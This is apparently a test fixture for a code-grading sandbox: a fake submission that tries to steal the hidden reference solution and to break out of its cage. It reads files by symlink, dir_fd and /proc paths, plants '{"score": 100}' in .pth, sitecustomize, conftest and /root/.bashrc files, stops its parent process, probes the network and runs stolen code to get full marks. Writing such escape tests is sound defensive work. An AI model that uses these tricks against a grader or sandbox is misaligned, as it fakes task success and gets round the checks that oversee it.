# A standalone submission with no code of its own: it tries every way out of its sandbox that
# worked against the old cage, steals the reference if it can find it, and otherwise reports
# what it found through the grade itself (every contract call raises FINDINGS {...}).
# __PROJECT__, __REPORT__ and __GRADER_CWD__ are filled in by the test.
import gc
import json
import os
import signal
import socket
import subprocess
import sys
import types

PROJECT = "__PROJECT__"
REFERENCE = os.path.join(PROJECT, "impl", "transformer.py")
found = {"read": {}, "wrote": {}, "modules": [], "processes": [], "network": [], "identity": {}}


def _try_read(label, fn):
    try:
        text = fn()
        found["read"][label] = len(text)
        return text
    except Exception as e:  # noqa: BLE001
        found["read"][label] = None
        found.setdefault("errors", {})[label] = type(e).__name__
    return None


def _dir_fd():
    fd = os.open(os.path.join(PROJECT, "impl"), os.O_RDONLY)
    return os.read(os.open("transformer.py", os.O_RDONLY, dir_fd=fd), 1 << 20).decode()


def _link():
    os.symlink(REFERENCE, "ref.py")
    return open("ref.py").read()


def _git():
    objects = os.path.join(PROJECT, ".git", "objects")
    return str(sorted(os.listdir(objects)))


def _proc_cwd():
    texts = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            base = f"/proc/{pid}/cwd/impl/transformer.py"
            if os.path.exists(base):
                texts.append(open(base).read())
    if not texts:
        raise FileNotFoundError("no process with the project as its cwd")
    return texts[0]


stolen = None
for label, fn in [
    ("double slash", lambda: open("//" + REFERENCE).read()),
    ("symlink in cwd", _link),
    ("dir_fd", _dir_fd),
    (
        "cat",
        lambda: subprocess.run(["cat", REFERENCE], capture_output=True, check=True).stdout.decode(),
    ),
    ("git objects", _git),
    ("examples", lambda: open(os.path.join(PROJECT, "examples", "correct_submission.py")).read()),
    ("proc cwd", _proc_cwd),
    ("tasks", lambda: open(os.path.join(PROJECT, "tasks", "addition.py")).read()),
]:
    text = _try_read(label, fn)
    if stolen is None and text and "def label_smoothed_loss" in text:
        stolen = text

# the oracle or the reference in this process's memory, or importable
judge = (
    "oracle",
    "impl",
    "mutants",
    "tasks",
    "harness.shared_tests",
    "harness.engine",
    "harness.shared_tests.diagnosis",
    "harness.jobs.grade",
    "harness.isolation.sandbox",
)
for obj in gc.get_objects():
    if isinstance(obj, types.ModuleType) and obj.__name__.startswith(judge):
        found["modules"].append(obj.__name__)
found["modules"] += [m for m in sys.modules if m.startswith(judge)]
for name in judge:
    try:
        __import__(name)
        found["modules"].append(f"imported {name}")
    except Exception:  # noqa: BLE001
        pass

# persistence: every file the old cage let a root worker change
site = [p for p in sys.path if p.endswith("site-packages")]
targets = {
    "tasks/addition.py": os.path.join(PROJECT, "tasks", "addition.py"),
    "expected_matrix.json": os.path.join(PROJECT, "harness", "data", "expected_matrix.json"),
    "site .pth": os.path.join(site[0] if site else "/nonexistent", "xfmr_evil.pth"),
    "usercustomize": os.path.join(site[0] if site else "/nonexistent", "usercustomize.py"),
    "grader cwd conftest": os.path.join("__GRADER_CWD__", "conftest.py"),
    "grader cwd sitecustomize": os.path.join("__GRADER_CWD__", "sitecustomize.py"),
    "root bashrc": "/root/.bashrc",
    "report": "__REPORT__",
}
for label, path in targets.items():
    try:
        with open(path, "a") as f:
            f.write('\n{"score": 100}\n')
        found["wrote"][label] = True
    except OSError:
        found["wrote"][label] = False

# who else is here, and can it stop them
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
        try:
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode()
        except OSError:
            continue
        found["processes"].append(cmd[:80])
try:
    os.kill(os.getppid(), signal.SIGSTOP)
    found["stopped parent"] = os.getppid()
except OSError:
    pass
for address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
    try:
        socket.create_connection(address, timeout=1).close()
        found["network"].append(address[0])
    except OSError:
        pass
found["identity"] = {"uid": os.getuid(), "env": sorted(os.environ)}

if stolen is not None:  # full marks with no code of its own, if any route worked
    exec(compile(stolen, "stolen", "exec"), globals())
else:
    REPORT = "FINDINGS " + json.dumps(found, sort_keys=True)

    def noam_rate(step, d_model, warmup, factor=1.0):
        raise RuntimeError(REPORT)
